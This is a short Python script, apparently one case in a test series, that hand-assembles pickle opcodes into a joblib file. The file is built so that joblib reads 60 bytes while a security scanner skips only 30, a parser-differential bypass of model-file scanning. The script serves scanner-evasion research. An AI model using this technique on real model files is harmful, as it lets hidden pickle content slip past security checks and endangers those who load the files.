from common import *
# Pure opcodes, no calls. BUILD 1 gives the wrapper a memoized state dict S = {'shape': (60,)}:
# pickle copies S's items into __dict__ then. SETITEM through the memo then changes S to
# {'shape': (30,)}, and BUILD 2 on the wrapper (from the memo) gives an empty dict. joblib's
# wrapper still has shape (60,) and reads 60 bytes; the scanner re-reads every state the
# wrapper was given, S included as it is NOW, and skips 30.
hdr = b'\x80\x02' + wrapper6(60) + b'q\x05' + b'}q\x06' + U('shape') + b'K\x3c\x85sb'
mid = b'0' + b'h\x06' + U('shape') + b'K\x1e\x85s0' + b'h\x05}b'
R2 = region(60, [30])
A1 = bytearray(60)
A1[0:5] = T(60 - 5 + len(mid) + len(R2) - 1)
run('b11.joblib', hdr + bytes(A1) + mid + R2)
